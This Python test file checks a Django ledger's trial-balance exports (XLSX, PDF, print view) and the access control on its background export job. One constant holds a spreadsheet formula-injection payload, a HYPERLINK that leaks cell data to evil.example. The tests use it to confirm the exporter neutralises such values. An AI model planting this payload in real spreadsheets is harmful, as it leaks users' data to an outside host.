"""The trial balance as XLSX, PDF and print view, and its background export."""

import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from django.test import override_settings
from django.urls import reverse

from kent_cs.models import Job
from kent_cs.roles import Role
from ledger.models import GLAccount
from tests.factories import make_user
from tests.kent_cs.test_reports import inflate_pdf_objects
from tests.ledger.test_views import ledger_2026, period_of, post  # noqa: F401 (a fixture)

D = Decimal
IMMEDIATE_TASKS = {"default": {"BACKEND": "django.tasks.backends.immediate.ImmediateBackend"}}
MONEY_FORMAT = "#,##0.00;[Red]-#,##0.00"
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def hostile_ledger(chart, supervisor, request):
    """On top of `ledger_2026`: an account whose name, and lines whose memos, look like
    spreadsheet formulas."""
    request.getfixturevalue("ledger_2026")
    account = GLAccount.objects.create(
        fund=chart["001.101.30"].fund, code="369.99.00", name=HOSTILE_NAME, account_type="revenue"
    )
    chart = {**chart, account.full_code: account}
    entry = post(
        supervisor,
        chart,
        date(2026, 3, 12),
        "+1 misc receipts",
        ("001.101.30", "12.00", "0", "-2"),
        ("001.369.99.00", "0", "10.00", "@x"),
        ("001.369.90.00", "0", "2.00", "\tx"),
    )
    return account, entry


def _workbook(response):
    assert response.status_code == 200
    return openpyxl.load_workbook(io.BytesIO(b"".join(response)))


def test_trial_balance_xlsx(client_for, technician, hostile_ledger):
    march = period_of(2026, 3)
    response = client_for(technician).get(reverse("ledger:trial-balance-xlsx", args=[march.pk]))
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response["Content-Disposition"] == 'attachment; filename="trial-balance-2026-03.xlsx"'
    book = _workbook(response)
    assert book.sheetnames == ["Trial balance 2026-03"]
    sheet = book.active
    assert sheet.freeze_panes == "A2"
    assert [c.value for c in sheet[1]] == [
        "Account",
        "Account name",
        "Type",
        "Opening balance",
        "Period debits",
        "Period credits",
        "Closing balance",
    ]
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    clearing = rows["001.101.30"]
    assert [c.value for c in clearing[3:]] == [100, 262.5, 350.5, 12]
    assert all(c.number_format == MONEY_FORMAT and c.data_type == "n" for c in clearing[3:])
    assert rows["001.321.90.00"][6].value == -250.5
    hostile = rows["001.369.99.00"]
    assert hostile[1].value == "'" + HOSTILE_NAME
    assert hostile[1].data_type == "s"
    assert hostile[6].value == -10
    total = rows["Total"]
    assert total[0].font.b
    assert total[4].value == total[5].value == 613  # period debits equal credits
    assert total[3].value == 0 and total[6].value == 0
    assert sheet.max_row == len(rows) + 1


@pytest.mark.usefixtures("ledger_2026")
def test_trial_balance_pdf(client_for, technician):
    march = period_of(2026, 3)
    response = client_for(technician).get(reverse("ledger:trial-balance-pdf", args=[march.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == 'attachment; filename="trial-balance-2026-03.pdf"'
    assert response.content.startswith(b"%PDF-")
    objects = inflate_pdf_objects(response.content)
    assert b"/Title (Trial balance March 2026)" in objects
    assert b"/MediaBox [0 0 792 612]" in objects  # letter, landscape
    assert len(response.content) > 5000


@pytest.mark.usefixtures("ledger_2026")
def test_trial_balance_pdf_text(technician, rf):
    from kent_cs.reports import pdf_html
    from ledger import reports, selectors

    march = period_of(2026, 3)
    request = rf.get("/")
    request.user = technician
    document = pdf_html(
        "ledger/trial_balance_document.html",
        reports.trial_balance_document(selectors.trial_balance(period=march)),
        request=request,
    ).render()

    def texts(box, found):
        if getattr(box, "text", None):
            found.append(box.text)
        for child in getattr(box, "children", None) or ():
            texts(child, found)
        return found

    words = [texts(page._page_box, []) for page in document.pages]
    everything = [w.strip() for page in words for w in page]
    assert "Trial balance — March 2026" in everything
    assert "601.00" in everything and "-250.50" in everything
    assert f"Page 1 of {len(document.pages)}" in everything
    assert any(w.startswith("Printed") and "by technician" in w for w in everything)


@pytest.mark.usefixtures("ledger_2026")
def test_trial_balance_print_view(client_for, technician):
    march = period_of(2026, 3)
    response = client_for(technician).get(reverse("ledger:trial-balance-print", args=[march.pk]))
    assert response.status_code == 200
    html = response.content.decode()
    assert "<h1>Trial balance — March 2026</h1>" in html
    assert "in balance</span> — period debits equal period credits" in html
    assert "Total (25 accounts)" in html
    assert '<td class="num">601.00</td>' in html
    assert 'media="print"' in html and "data-print" in html
    pdf_url = reverse("ledger:trial-balance-pdf", args=[march.pk])
    assert f'href="{pdf_url}">Download PDF</a>' in html


def test_unknown_period_download_is_404(client_for, technician, chart):
    response = client_for(technician).get(reverse("ledger:trial-balance-xlsx", args=[999999]))
    assert response.status_code == 404


@override_settings(TASKS=IMMEDIATE_TASKS)
def test_background_export_with_lines(
    client_for, technician, supervisor, hostile_ledger, django_capture_on_commit_callbacks
):
    march = period_of(2026, 3)
    client = client_for(technician)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("ledger:trial-balance-export", args=[march.pk]))
    job = Job.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("job-detail", args=[job.pk])
    assert job.status == Job.Status.SUCCEEDED, job.message
    assert job.kind == "ledger.trial-balance-xlsx"
    assert job.params == {"period": march.pk}
    assert job.created_by == technician
    # 26 accounts and 7 journal lines in March (2 + 2 + 3).
    assert (job.progress_done, job.progress_total) == (33, 33)
    assert job.message == "26 accounts and 7 journal lines"
    assert job.result_name == "trial-balance-2026-03.xlsx"

    page = client.get(reverse("job-detail", args=[job.pk])).content.decode()
    assert "Download trial-balance-2026-03.xlsx" in page
    download = client.get(reverse("job-download", args=[job.pk]))
    book = _workbook(download)
    assert book.sheetnames == ["Trial balance 2026-03", "Lines"]
    lines = book["Lines"]
    assert lines.freeze_panes == "A2"
    assert [c.value for c in lines[1]] == [
        "Entry",
        "Date",
        "Account",
        "Account name",
        "Debit",
        "Credit",
        "Memo",
        "Source",
    ]
    rows = [[c.value for c in row] for row in lines.iter_rows(min_row=2)]
    assert len(rows) == 7
    hostile = [r for r in rows if r[6] in ("'-2", "'@x", "'\tx")]
    assert [r[6] for r in hostile] == ["'-2", "'@x", "'\tx"]
    assert hostile[1][3] == "'" + HOSTILE_NAME
    assert hostile[0][4] == 12 and hostile[1][5] == 10
    assert lines.cell(row=2, column=2).number_format == "yyyy-mm-dd"
    assert lines.cell(row=2, column=5).number_format == MONEY_FORMAT
    tb_total = [r for r in book["Trial balance 2026-03"].iter_rows(values_only=True)][-1]
    assert tb_total[4] == tb_total[5] == 613

    # A supervisor may see every user's jobs (another technician may not: next test).
    assert client_for(supervisor).get(reverse("job-download", args=[job.pk])).status_code == 200


@override_settings(TASKS=IMMEDIATE_TASKS)
@pytest.mark.usefixtures("ledger_2026")
def test_background_export_belongs_to_its_starter(
    client, technician, django_capture_on_commit_callbacks
):
    march = period_of(2026, 3)
    client.force_login(technician)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("ledger:trial-balance-export", args=[march.pk]))
    job = Job.objects.get()
    client.force_login(make_user("technician_b", Role.TECHNICIAN))
    assert client.get(reverse("job-detail", args=[job.pk])).status_code == 404
    assert client.get(reverse("job-download", args=[job.pk])).status_code == 404


def test_export_is_post_only(client_for, technician, chart):
    march = period_of(2026, 3)
    url = reverse("ledger:trial-balance-export", args=[march.pk])
    assert client_for(technician).get(url).status_code == 405
    assert not Job.objects.exists()
